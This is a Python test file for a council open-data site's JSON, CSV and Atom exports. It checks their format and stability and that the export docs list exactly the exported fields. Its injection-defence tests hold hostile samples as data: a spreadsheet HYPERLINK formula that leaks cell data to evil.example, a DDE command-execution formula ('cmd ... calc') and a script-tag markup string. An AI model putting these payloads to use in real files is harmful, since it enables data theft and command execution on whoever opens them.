"""Open data exports: the versioned JSON and CSV files, the Atom feed, their stability, and their docs."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import shutil
import xml.dom.minidom
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from commons.content.model import build_catalog
from commons.content.register import load_register
from commons.content.validate import validate_repository
from commons.site.contract_exports import CONTRACT_CSV_COLUMNS
from commons.site.exports import CSV_COLUMNS, csv_cell, csv_document, write_all, write_atomic
from commons.site.feed import FeedEntry, atom_feed, feed_entries
from commons.site.history import FileDates
from commons.site.state import SiteState, build_state

REPO = Path(__file__).resolve().parents[1]
REGISTER = REPO / "data" / "uk-local-authorities.csv"
TODAY = dt.date(2026, 3, 1)
ATOM = "{http://www.w3.org/2005/Atom}"
TAG = "tag:council-commons,2026:"

PATTERN_BODY = """
## Problem

Residents cannot tell whether a bin was missed.

## Solution

An address-first form that checks the crew's round data.

## Evidence

Calls about missed collections fell by half.

## Considerations

### Accessibility

Works with a keyboard and a screen reader.

### Data protection

Stores only the address.
"""

FILES = {
    "patterns/report-a-missed-bin.md": """\
---
# yaml-language-server: $schema=../schemas/pattern.schema.json
id: 1
title: Report a missed bin without an account
summary: Residents report a missed collection in under a minute with only their address.
service-area: environmental-and-regulatory
lgsl: [524]
status: live
tags: [waste, forms]
councils: [HCK]
related: [bin-collection-day-lookup]
aliases: [missed-bin-report]
last-reviewed: 2025-06-01
---
""" + PATTERN_BODY,
    "patterns/bin-collection-day-lookup.md": """\
---
# yaml-language-server: $schema=../schemas/pattern.schema.json
id: 2
title: Look up your bin collection day
summary: Residents find their next collection from their address.
service-area: environmental-and-regulatory
status: beta
councils: [HCK]
last-reviewed: 2024-01-15
---
""" + PATTERN_BODY,
    "case-studies/hackney-missed-bins.md": """\
---
# yaml-language-server: $schema=../schemas/case-study.schema.json
title: Hackney halved missed-bin calls
council: HCK
date: 2025-03-01
summary: An address-first report replaced an account-based form.
patterns: [missed-bin-report]
service-area: environmental-and-regulatory
outcomes:
  - measure: Phone calls about missed collections
    before: 2400
    after: 1050
    unit: calls per month
    period: 2025 against 2024
    illustrative: true
contact:
  role: Waste services digital lead
  email: waste-digital@hackney.example
links:
  - title: Weeknote
    url: https://blog.hackney.example/missed-bins
---

## What we did

We removed the account.
""",
    "playbooks/adopt-a-pattern.md": """\
---
# yaml-language-server: $schema=../schemas/playbook.schema.json
title: Adopt a pattern another council has built
summary: Reuse a tested design and change only what is local.
audience: [Service owners]
steps:
  - title: Find the pattern
    detail: Read the pattern page and its case studies.
  - title: Record your adoption
    detail: Add the pattern to your council.yml.
time-needed: 2 to 4 months
patterns: [report-a-missed-bin]
councils: [HCK]
last-reviewed: 2025-09-01
---

## Why reuse

Councils keep paying to discover the same things.
""",
    "sessions/ukgovcamp-2026/bin-forms.md": """\
---
# yaml-language-server: $schema=../../schemas/session.schema.json
id: 7
event: UKGovCamp 2026
date: 2026-01-24
title: Can we all stop building our own bin forms – yn Gymraeg hefyd?
hosts: ["Waste digital team, Hackney"]
notes: https://notes.example.org/ukgovcamp-2026/bin-forms
patterns: [report-a-missed-bin]
councils: [HCK]
---

## What we discussed

Bin forms.
""",
    "councils/hackney/council.yml": """\
# yaml-language-server: $schema=../../schemas/council.schema.json
code: HCK
maintainers: [hackney-digital]
website: https://hackney.gov.uk
declaration-signed: 2018-07-04
adopted:
  - pattern: missed-bin-report
    since: 2024-06-01
    evidence: https://services.hackney.example/missed-bin
""",
    "councils/hackney/declaration.yml": """\
# yaml-language-server: $schema=../../schemas/commitment.schema.json
commitments:
  - id: open-repairs-data
    title: Publish housing repairs data openly every week
    principles: [1, 3]
    status: in-progress
    start: 2024-01-08
    target: 2026-12-31
    partners: [ISL]
    patterns: [missed-bin-report]
    history:
      - date: 2024-01-08
        status: planned
        note: Discovery started with the repairs service.
      - date: 2026-02-10
        status: in-progress
        note: First weekly extract published.
        evidence: https://data.hackney.example/repairs
""",
    "councils/hackney/contracts.yml": """\
# yaml-language-server: $schema=../../schemas/contract.schema.json
contracts:
  - id: revenues-2020
    system: revenues-and-benefits
    supplier: Capita
    product: Academy
    start: 2020-04-01
    end: 2027-03-31
    extension-until: 2028-03-31
    annual-value: 610000
    open-api: partial
    data-standards: [BS7666]
    notice: https://notices.hackney.example/revenues-2020
    notes: Council tax, business rates and housing benefit.
    illustrative: true
""",
}

EXPORTS = ("api/v1/index.json", "api/v1/patterns.json", "api/v1/case-studies.json", "api/v1/playbooks.json",
           "api/v1/sessions.json", "api/v1/councils.json", "api/v1/commitments.json", "api/v1/commitments.csv",
           "api/v1/contracts.json", "api/v1/contracts.csv", "api/v1/collaborate.json", "api/v1/sources.json",
           "feed.xml")

# Newest first; ties (none here) by id.
FEED_IDS = [
    f"{TAG}commitments/HCK/open-repairs-data/2026-02-10",
    f"{TAG}sessions/ukgovcamp-2026/bin-forms",
    f"{TAG}playbooks/adopt-a-pattern",
    f"{TAG}patterns/report-a-missed-bin",
    f"{TAG}case-studies/hackney-missed-bins",
    f"{TAG}patterns/bin-collection-day-lookup",
    f"{TAG}commitments/HCK/open-repairs-data/2024-01-08",
    f"{TAG}contracts/HCK/revenues-2020",  # no git here: dated by its start
]


def make_repository(root: Path) -> Path:
    (root / "data").mkdir(parents=True)
    shutil.copyfile(REGISTER, root / "data" / REGISTER.name)
    for rel, text in FILES.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return make_repository(tmp_path / "repo")


@pytest.fixture
def state(root: Path) -> SiteState:
    return build_state(root, today=TODAY)


@pytest.fixture
def site(tmp_path: Path, state: SiteState) -> Path:
    site = tmp_path / "site"
    write_all(site, state)
    return site


def read_json(site: Path, name: str) -> dict[str, Any]:
    return json.loads((site / "api" / "v1" / name).read_text(encoding="utf-8"))


def by(items: list[dict[str, Any]], key: str, value: Any) -> dict[str, Any]:
    return next(i for i in items if i[key] == value)


def feed(site: Path) -> ET.Element:
    return ET.parse(site / "feed.xml").getroot()


def test_the_state_is_the_catalog_of_the_repository(root: Path, state: SiteState) -> None:
    """The hooks' state (no git here, so no git dates) holds the same Catalog as validating by hand."""
    report = validate_repository(root, keep_entries=True)
    assert report.problems == []  # not even a warning
    catalog = build_catalog(report.entries, load_register(root / "data" / REGISTER.name), today=TODAY)
    assert state.dates == {}
    assert state.catalog.patterns == catalog.patterns
    assert state.catalog.commitments == catalog.commitments


def test_every_file_is_written_and_nothing_else(site: Path) -> None:
    written = sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())
    assert written == sorted(EXPORTS)


def test_json_files_share_a_versioned_envelope(site: Path) -> None:
    councils = len(load_register(REGISTER).current())
    expected = {"patterns.json": 2, "case-studies.json": 1, "playbooks.json": 1, "sessions.json": 1,
                "councils.json": councils, "commitments.json": 1, "contracts.json": 1, "collaborate.json": 0,
                "sources.json": 0, "index.json": 12}
    for name, count in expected.items():
        text = (site / "api" / "v1" / name).read_text(encoding="utf-8")
        doc = json.loads(text)
        assert sorted(doc) == ["count", "generated", "items", "license", "version"]
        assert (doc["version"], doc["generated"]) == ("1", "2026-03-01")
        assert "LICENSE" in doc["license"] and "Open Government Licence v3.0" in doc["license"]
        assert doc["count"] == len(doc["items"]) == count, name
        assert text == json.dumps(doc, ensure_ascii=False, indent=2, sort_keys=True) + "\n", name
        for item in doc["items"]:
            assert "body" not in item


def test_index_lists_every_other_file_with_its_count(site: Path) -> None:
    items = read_json(site, "index.json")["items"]
    assert [i["url"] for i in items] == [p for p in EXPORTS if p != "api/v1/index.json"]
    assert by(items, "url", "api/v1/commitments.csv")["count"] == 1
    assert by(items, "url", "feed.xml")["count"] == len(FEED_IDS)
    assert all(i["description"] and i["media_type"] for i in items)


def test_a_pattern_has_its_links_and_resolved_reverse_references(site: Path) -> None:
    items = read_json(site, "patterns.json")["items"]
    assert [p["slug"] for p in items] == ["bin-collection-day-lookup", "report-a-missed-bin"]
    p = by(items, "slug", "report-a-missed-bin")
    assert (p["id"], p["url"], p["short_url"]) == (1, "patterns/report-a-missed-bin/", "p/1/")
    assert p["aliases"] == ["missed-bin-report"]
    assert p["adopters"] == [{"council": "HCK", "since": "2024-06-01",
                              "evidence": "https://services.hackney.example/missed-bin"}]
    # Each of these refers to the pattern by its alias; the export resolves it.
    assert p["case_studies"] == ["hackney-missed-bins"]
    assert p["commitments"] == ["HCK/open-repairs-data"]
    assert p["playbooks"] == ["adopt-a-pattern"]
    assert p["sessions"] == ["ukgovcamp-2026/bin-forms"]
    assert (p["lgsl"], p["last_reviewed"], p["stale"]) == ([524], "2025-06-01", False)
    other = by(items, "slug", "bin-collection-day-lookup")
    assert (other["related_from"], other["stale"], other["short_url"]) == (["report-a-missed-bin"], True, "p/2/")


def test_other_entries(site: Path) -> None:
    case = read_json(site, "case-studies.json")["items"][0]
    assert (case["patterns"], case["date"], case["url"]) == (["report-a-missed-bin"], "2025-03-01",
                                                           "case-studies/hackney-missed-bins/")
    assert case["outcomes"][0]["change_percent"] == -56.2
    playbook = read_json(site, "playbooks.json")["items"][0]
    assert [s["title"] for s in playbook["steps"]] == ["Find the pattern", "Record your adoption"]
    session = read_json(site, "sessions.json")["items"][0]
    assert (session["key"], session["url"]) == ("ukgovcamp-2026/bin-forms", "sessions/ukgovcamp-2026/bin-forms/")
    # Its permanent number from its file (7, not its place in the list) and the short link printed on its card.
    assert (session["id"], session["short_url"]) == (7, "s/7/")
    # Not escaped to ASCII.
    assert "bin forms – yn Gymraeg" in (site / "api" / "v1" / "sessions.json").read_text(encoding="utf-8")


def test_councils_are_the_register_with_profiles_for_contributors(site: Path) -> None:
    items = read_json(site, "councils.json")["items"]
    hackney = by(items, "code", "HCK")
    assert hackney == {
        "code": "HCK", "name": "London Borough of Hackney", "short_name": "Hackney", "slug": "hackney",
        "gss": "E09000012", "nation": "England", "region": "London", "type": "LBO", "type_name": "London borough",
        "contributing": True, "maintainers": ["hackney-digital"], "website": "https://hackney.gov.uk",
        "declaration_signed": "2018-07-04",
        "adopted": [{"pattern": "report-a-missed-bin", "since": "2024-06-01",
                     "evidence": "https://services.hackney.example/missed-bin"}],
        "commitments": ["open-repairs-data"], "case_studies": ["hackney-missed-bins"],
        "patterns_owned": ["bin-collection-day-lookup", "report-a-missed-bin"], "url": "councils/hackney/",
        "path": "councils/hackney/council.yml",
    }
    islington = by(items, "code", "ISL")
    assert (islington["contributing"], islington["website"], islington["adopted"]) == (False, None, [])


def test_commitments_json(site: Path) -> None:
    cm = read_json(site, "commitments.json")["items"][0]
    assert (cm["key"], cm["status"], cm["last_update"], cm["target"]) == (
        "HCK/open-repairs-data", "in-progress", "2026-02-10", "2026-12-31")
    assert cm["history"][0] == {"date": "2024-01-08", "status": "planned",
                                "note": "Discovery started with the repairs service.", "evidence": None}
    assert cm["url"] == "councils/hackney/#open-repairs-data"


def test_commitments_csv(site: Path) -> None:
    raw = (site / "api" / "v1" / "commitments.csv").read_bytes()
    assert raw.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows[0] == ["council_code", "council_name", "nation", "region", "council_type", "council_type_name", "id",
                       "title", "principles", "status", "start", "target", "last_update", "stale", "partners",
                       "patterns", "url"]
    assert rows[1:] == [
        ["HCK", "London Borough of Hackney", "England", "London", "LBO", "London borough", "open-repairs-data",
         "Publish housing repairs data openly every week", "1;3", "in-progress", "2024-01-08", "2026-12-31",
         "2026-02-10", "false", "ISL", "report-a-missed-bin", "councils/hackney/#open-repairs-data"],
    ]


def test_feed_is_atom_newest_first(site: Path) -> None:
    root = feed(site)
    assert root.tag == f"{ATOM}feed"
    entries = root.findall(f"{ATOM}entry")
    assert [e.findtext(f"{ATOM}id") for e in entries] == FEED_IDS
    updated = [e.findtext(f"{ATOM}updated") or "" for e in entries]
    assert updated == sorted(updated, reverse=True)
    assert root.findtext(f"{ATOM}updated") == updated[0] == "2026-02-10T00:00:00Z"
    assert root.findtext(f"{ATOM}id") and root.findtext(f"{ATOM}title")
    assert root.findtext(f"{ATOM}author/{ATOM}name") == "Council Commons"
    first = entries[0]
    assert first.findtext(f"{ATOM}title") == "Hackney: Publish housing repairs data openly every week (In progress)"
    assert first.findtext(f"{ATOM}summary") == "First weekly extract published."
    pattern = entries[FEED_IDS.index(f"{TAG}patterns/report-a-missed-bin")]
    link = pattern.find(f"{ATOM}link")
    assert link is not None and link.get("href") == "patterns/report-a-missed-bin/"
    for e in entries:
        href = e.find(f"{ATOM}link[@rel='alternate']").get("href", "")  # type: ignore[union-attr]
        assert href and not href.startswith("/") and "://" not in href
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT00:00:00Z", e.findtext(f"{ATOM}updated") or "")
        assert e.findtext(f"{ATOM}title") and e.findtext(f"{ATOM}summary")


def test_feed_dates_files_by_their_last_change_in_git(state: SiteState) -> None:
    dates = {"patterns/bin-collection-day-lookup.md": FileDates(dt.date(2024, 1, 1), dt.date(2026, 2, 20))}
    entries = feed_entries(dataclasses.replace(state, dates=dates))
    assert (entries[0].id, entries[0].updated) == (f"{TAG}patterns/bin-collection-day-lookup", dt.date(2026, 2, 20))
    assert [e.id for e in feed_entries(state, limit=3)] == FEED_IDS[:3]


def test_feed_ids_do_not_depend_on_when_it_is_built(root: Path, site: Path, tmp_path: Path) -> None:
    later = tmp_path / "later"
    write_all(later, build_state(root, today=dt.date(2027, 1, 1)))
    assert [e.findtext(f"{ATOM}id") for e in feed(later).findall(f"{ATOM}entry")] == FEED_IDS


def test_two_builds_give_identical_files(root: Path, site: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    write_all(again, build_state(root, today=TODAY))
    write_all(site, build_state(root, today=TODAY))  # over the top of the first build
    for rel in EXPORTS:
        assert (site / rel).read_bytes() == (again / rel).read_bytes(), rel
    assert not [p for p in site.rglob("*.tmp")]


def test_a_failed_write_leaves_no_half_file(tmp_path: Path) -> None:
    target = tmp_path / "api" / "v1" / "patterns.json"
    write_atomic(target, b"old\n")
    (tmp_path / "api" / "v1" / "blocked").mkdir()
    (tmp_path / "api" / "v1" / "blocked" / "x").write_text("", encoding="utf-8")
    with pytest.raises(OSError):  # a non-empty directory cannot be replaced by a file
        write_atomic(tmp_path / "api" / "v1" / "blocked", b"new\n")
    assert target.read_bytes() == b"old\n"
    assert sorted(p.name for p in target.parent.iterdir()) == ["blocked", "patterns.json"]


# --- The docs stay true ----------------------------------------------------------------------------------------

DOCS = REPO / "docs" / "data.md"


def documented_fields() -> dict[str, set[str]]:
    """Section heading (`api/v1/x.json`, or "envelope") → the fields its table lists."""
    tables: dict[str, set[str]] = {}
    section = ""
    for line in DOCS.read_text(encoding="utf-8").splitlines():
        heading = re.fullmatch(r"## `(api/v1/[a-z.-]+)`", line)
        if heading:
            section = heading.group(1)
        elif line.startswith("## "):
            section = "envelope" if line == "## What every JSON file looks like" else ""
        field = re.match(r"\| `([a-z_\[\].]+)` \|", line)
        if section and field:
            tables.setdefault(section, set()).add(field.group(1))
    return tables


def exported_fields(items: list[dict[str, Any]]) -> set[str]:
    """Every field of the items, with fields of listed objects as `list[].field`."""
    fields: set[str] = set()
    for item in items:
        for key, value in item.items():
            fields.add(key)
            for sub in value if isinstance(value, list) else []:
                if isinstance(sub, dict):
                    fields.update(f"{key}[].{k}" for k in sub)
    return fields


def test_docs_list_exactly_the_exported_fields(site: Path) -> None:
    docs = documented_fields()
    json_files = [p for p in EXPORTS if p.endswith(".json")]
    assert sorted(docs) == sorted([*json_files, "api/v1/commitments.csv", "api/v1/contracts.csv", "envelope"])
    for rel in json_files:
        doc = json.loads((site / rel).read_text(encoding="utf-8"))
        assert docs["envelope"] == set(doc)
        # This content has no sources and no opportunities: tests/test_sources_page.py and
        # tests/test_collaborate_page.py check their fields
        if rel not in ("api/v1/sources.json", "api/v1/collaborate.json"):
            assert docs[rel] == exported_fields(doc["items"]), rel
    assert docs["api/v1/commitments.csv"] == set(CSV_COLUMNS)
    assert docs["api/v1/contracts.csv"] == set(CONTRACT_CSV_COLUMNS)


# --- Contributed text in the exports is data, never a formula or broken XML ---------------------------------

# Text a spreadsheet would run as a formula, or that hides the start of one; each validates as a title.
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "=1+1", "+1+1", "-1+1", "-1", "@SUM(1+1)",
            " =1+1", "   @SUM(1+1)", "\u00a0=1+1", '"=1+1', "'=1+1", "=cmd|' /C calc'!A0"]
# The same behind control or invisible characters, which validation refuses (or may come to): made directly.
HIDDEN_FORMULAS = ["\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x1b=1+1", "\u200b=1+1", "\ufeff=1+1", "-", "@",
                   "\tplain", "\r\nplain", "\x00plain"]  # a leading control character is itself a risk
# Text that already starts with ' gets one more, so that removing one always gives back the original.
QUOTED = ["'Tis the season", "'"]
NEUTRALISED = FORMULAS + HIDDEN_FORMULAS + QUOTED
PLAIN = ["Publish housing repairs data", "Cut calls by 40% - then more", "a=b", "1;3", "2024-01-08", "",
         "councils/hackney/#x", "Repairs; =1+1 is not where a cell starts", "£5 a month, in Cymraeg: £5 y mis",
         "Tis", "5-a-side pitches", "#1 for repairs"]
# The CSV columns we make ourselves from validated values, not from contributed text.
COMPUTED = {"principles": "1;3", "start": "2024-01-08", "target": "2026-12-31", "last_update": "2026-02-10",
            "stale": "false"}


# The contract columns made from validated values (the council's code is the Catalog's key, not text shown).
CONTRACT_COMPUTED = {"council_code": "HCK", "start": "2020-04-01", "end": "2027-03-31", "extension_until": "2028-03-31",
                     "ends": "2028-03-31", "annual_value": "610000", "illustrative": "true", "url": "councils/hackney/"}


def published_csvs(site: Path) -> dict[str, list[dict[str, str]]]:
    """Every CSV file in the written site, read back with the csv module (as a program reading it would)."""
    out = {}
    for path in sorted(site.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as f:  # newline="": a \r inside a cell stays a \r
            out[path.relative_to(site).as_posix()] = list(csv.DictReader(f))
    return out


def could_run(cell: str) -> bool:
    """Whether a spreadsheet could take `cell` for a formula: this test's own reading of OWASP's advice."""
    if cell.startswith("'"):
        return False
    after_blanks = cell.lstrip(" \t\r\n\x00\x1b\u00a0\u200b\ufeff\"'")
    return cell[:1] in {"\t", "\r", "\n", "\x00", "\x1b"} or after_blanks[:1] in {"=", "+", "-", "@"}


def with_text_everywhere(state: SiteState, text: str) -> SiteState:
    """`state` with `text` in every text field of Hackney and its commitment that the CSV carries."""
    c = state.catalog
    contracts = tuple(dataclasses.replace(k, id=text, system=text, supplier=text, product=text, open_api=text,
                                          data_standards=(text,), notice=text) for k in c.councils["HCK"].contracts)
    council = dataclasses.replace(c.councils["HCK"], code=text, name=text, nation=text, region=text, type=text,
                                  type_name=text, contracts=contracts)
    commitment = dataclasses.replace(c.commitments[0], id=text, title=text, status=text, partners=(text,),
                                     patterns=(text,))
    catalog = dataclasses.replace(c, councils={**c.councils, "HCK": council}, commitments=(commitment,))
    return dataclasses.replace(state, catalog=catalog)


@pytest.mark.parametrize("title", FORMULAS + QUOTED)
def test_a_contributed_formula_is_text_in_every_csv(root: Path, tmp_path: Path, title: str) -> None:
    declaration = root / "councils" / "hackney" / "declaration.yml"
    text = declaration.read_text(encoding="utf-8")
    # A JSON string is a YAML double-quoted one.
    declaration.write_text(text.replace("title: Publish housing repairs data openly every week",
                                        f"title: {json.dumps(title, ensure_ascii=False)}"), encoding="utf-8")
    state = build_state(root, today=TODAY)
    assert state.catalog.commitments[0].title == title  # validation accepts it: it is only text
    site = tmp_path / "hostile-site"
    write_all(site, state)
    csvs = published_csvs(site)
    assert csvs and all(not could_run(cell) for rows in csvs.values() for row in rows for cell in row.values())
    row = csvs["api/v1/commitments.csv"][0]
    assert row["title"] == "'" + title
    assert row["title"][1:] == title  # the open-data page's way back to the original
    assert (row["council_code"], row["start"], row["principles"]) == ("HCK", "2024-01-08", "1;3")
    assert by(read_json(site, "commitments.json")["items"], "id", "open-repairs-data")["title"] == title


@pytest.mark.parametrize("text", NEUTRALISED)
def test_every_text_cell_of_every_csv_is_neutralised(state: SiteState, tmp_path: Path, text: str) -> None:
    """Built directly, so that even text validation refuses is in every text column."""
    site = tmp_path / "hostile-site"
    write_all(site, with_text_everywhere(state, text))
    csvs = published_csvs(site)
    assert list(csvs) == ["api/v1/commitments.csv", "api/v1/contracts.csv"]  # a new CSV needs its row checked here
    for rows in csvs.values():
        assert rows and all(not could_run(cell) for row in rows for cell in row.values())
    [row] = csvs["api/v1/commitments.csv"]
    assert row == {**{column: "'" + text for column in CSV_COLUMNS}, **COMPUTED,
                   "url": f"councils/hackney/#{text}"}
    [contract] = csvs["api/v1/contracts.csv"]
    assert contract == {**{column: "'" + text for column in CONTRACT_CSV_COLUMNS}, **CONTRACT_COMPUTED}
    # JSON has no formulas: it keeps the text exactly.
    [cm] = read_json(site, "commitments.json")["items"]
    assert (cm["id"], cm["title"], cm["status"], cm["partners"], cm["patterns"]) == (text, text, text, [text], [text])
    assert by(read_json(site, "councils.json")["items"], "slug", "hackney")["name"] == text


@pytest.mark.parametrize("text", PLAIN)
def test_legitimate_text_is_unchanged_in_every_csv(state: SiteState, tmp_path: Path, text: str) -> None:
    site = tmp_path / "plain-site"
    write_all(site, with_text_everywhere(state, text))
    [row] = published_csvs(site)["api/v1/commitments.csv"]
    assert row == {**{column: text for column in CSV_COLUMNS}, **COMPUTED, "url": f"councils/hackney/#{text}"}


def test_text_cells_are_quoted_and_only_numbers_we_computed_are_numbers() -> None:
    """A number in text is still text ("-5" gets its '); a number our code made is written as a number."""
    document = csv_document(("n", "text"), [[-5, "-5"], [-56.2, True], [None, "a;b"]])
    assert document == b'"n","text"\r\n-5,"\'-5"\r\n-56.2,"true"\r\n"","a;b"\r\n'
    rows = list(csv.reader(io.StringIO(document.decode("utf-8"), newline="")))
    assert rows == [["n", "text"], ["-5", "'-5"], ["-56.2", "true"], ["", "a;b"]]


@pytest.mark.parametrize("value", PLAIN)
def test_a_csv_cell_that_cannot_be_a_formula_is_unchanged(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", NEUTRALISED)
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value


# Markup that must arrive as text, then characters XML 1.0 forbids (each becomes U+FFFD).
MARKUP = "<script>alert(1)</script> ]]> &amp; & \"quoted\" 'single'"
# Apart: a high surrogate just before a low one is a pair, one character, to a JSON reader.
FORBIDDEN = "\x00\x01\ud800\x08\x0b\x0c\x1b\x1f\ufffe\uffff\udfff"
HOSTILE = MARKUP + FORBIDDEN
CLEANED = MARKUP + "\ufffd" * len(FORBIDDEN)


def parsed_feeds(document: bytes) -> tuple[ET.Element, xml.dom.minidom.Document]:
    """The feed read by two XML parsers; each refuses a document that is not well formed."""
    return ET.fromstring(document), xml.dom.minidom.parseString(document)


def test_the_feed_stays_well_formed_whatever_text_reaches_it() -> None:
    entry = FeedEntry(f"{TAG}patterns/x{HOSTILE}", f"Pattern: {HOSTILE}", TODAY, f"patterns/x/?a=1&b={HOSTILE}",
                      HOSTILE, f"pattern{HOSTILE}")
    document = atom_feed([entry], TODAY).encode("utf-8")
    root, dom = parsed_feeds(document)
    got = root.find(f"{ATOM}entry")
    assert got is not None
    assert got.findtext(f"{ATOM}id") == f"{TAG}patterns/x{CLEANED}"
    assert got.findtext(f"{ATOM}title") == f"Pattern: {CLEANED}"
    assert got.findtext(f"{ATOM}summary") == CLEANED
    link, category = got.find(f"{ATOM}link"), got.find(f"{ATOM}category")
    assert link is not None and link.get("href") == f"patterns/x/?a=1&b={CLEANED}"
    assert category is not None and category.get("term") == f"pattern{CLEANED}"
    [summary] = dom.getElementsByTagName("summary")
    assert summary.firstChild is not None and summary.firstChild.nodeValue == CLEANED  # text, not elements
    assert not dom.getElementsByTagName("script")
    assert b"<script>" not in document and b"]]>" not in document


def test_the_feed_of_a_hostile_catalog_is_well_formed(state: SiteState, tmp_path: Path) -> None:
    """Every contributed field the feed carries, holding markup and characters XML forbids, written by a build."""
    c = state.catalog
    pattern = dataclasses.replace(c.patterns["report-a-missed-bin"], title=HOSTILE, summary=HOSTILE)
    case = dataclasses.replace(c.case_studies["hackney-missed-bins"], title=HOSTILE, summary=HOSTILE)
    playbook = dataclasses.replace(c.playbooks["adopt-a-pattern"], title=HOSTILE, summary=HOSTILE)
    session = dataclasses.replace(c.sessions["ukgovcamp-2026/bin-forms"], title=HOSTILE, event=HOSTILE)
    council = dataclasses.replace(c.councils["HCK"], short_name=HOSTILE)
    cm = c.commitments[0]
    commitment = dataclasses.replace(cm, id=f"x{HOSTILE}", title=HOSTILE,
                                     history=tuple(dataclasses.replace(u, note=HOSTILE) for u in cm.history))
    catalog = dataclasses.replace(
        c, patterns={**c.patterns, pattern.slug: pattern}, case_studies={case.slug: case},
        playbooks={playbook.slug: playbook}, sessions={session.key: session},
        councils={**c.councils, "HCK": council}, commitments=(commitment,))
    site = tmp_path / "hostile-site"
    write_all(site, dataclasses.replace(state, catalog=catalog))
    document = (site / "feed.xml").read_bytes()
    root, dom = parsed_feeds(document)
    entries = {e.findtext(f"{ATOM}id"): e for e in root.findall(f"{ATOM}entry")}
    hostile = {f"{TAG}patterns/report-a-missed-bin": ("Pattern: " + CLEANED, CLEANED),
               f"{TAG}case-studies/hackney-missed-bins": ("Case study: " + CLEANED, CLEANED),
               f"{TAG}playbooks/adopt-a-pattern": ("Playbook: " + CLEANED, CLEANED),
               f"{TAG}sessions/ukgovcamp-2026/bin-forms": ("Session: " + CLEANED, f"{CLEANED}, 2026-01-24")}
    for id_, (title, summary) in hostile.items():
        assert (entries[id_].findtext(f"{ATOM}title"), entries[id_].findtext(f"{ATOM}summary")) == (title, summary)
    updates = [e for e in entries.values() if e.find(f"{ATOM}category[@term='commitment']") is not None]
    assert len(updates) == 2
    for e in updates:
        assert (e.findtext(f"{ATOM}id") or "").startswith(f"{TAG}commitments/HCK/x{CLEANED}/")
        assert e.findtext(f"{ATOM}title") in (f"{CLEANED}: {CLEANED} (Planned)", f"{CLEANED}: {CLEANED} (In progress)")
        assert e.findtext(f"{ATOM}summary") == CLEANED
        link = e.find(f"{ATOM}link")
        assert link is not None and link.get("href") == f"councils/hackney/#x{CLEANED}"
    assert not dom.getElementsByTagName("script")
    assert b"<script>" not in document and b"]]>" not in document
    # The JSON keeps every character, the lone surrogates too (as \\u escapes, since UTF-8 has no form for them).
    assert by(read_json(site, "patterns.json")["items"], "slug", "report-a-missed-bin")["title"] == HOSTILE
